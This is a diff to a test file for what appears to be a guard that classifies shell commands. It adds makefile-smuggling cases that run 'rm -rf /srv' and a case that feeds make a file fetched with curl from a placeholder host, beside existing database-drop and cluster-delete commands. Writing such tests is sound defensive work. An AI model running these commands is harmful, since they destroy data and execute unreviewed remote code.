@@ -20,6 +20,9 @@ describe('what is handed to a command of a service', () => {
     'docker compose exec -e RAILS_ENV=production web bin/rails db:drop',
     'docker run -e RAILS_ENV=production app rails db:rollback',
     'ruby bin/rails db:drop RAILS_ENV=production',
+    "make -f /dev/stdin <<< 'all: ; rm -rf /srv'",
+    "make -f <(echo 'all: ; rm -rf /srv')",
+    "printf 'all: ; rm -rf /srv' | make -f -",
     'cargo sqlx database drop -y',
     'atlas clusters delete prod',
     'fd . /srv -x rm -rf',
@@ -49,4 +52,9 @@ describe('what is handed to a command of a service', () => {
   ])('%s', async (text) => {
     expect(held(await tell(text, world))).toBe(false);
   });
+});
+
+it('holds a makefile that is fetched', async () => {
+  const [line = ''] = await tell('make -f <(curl -s https://x.example)', world);
+  expect(line).toContain('unread-code');
 });
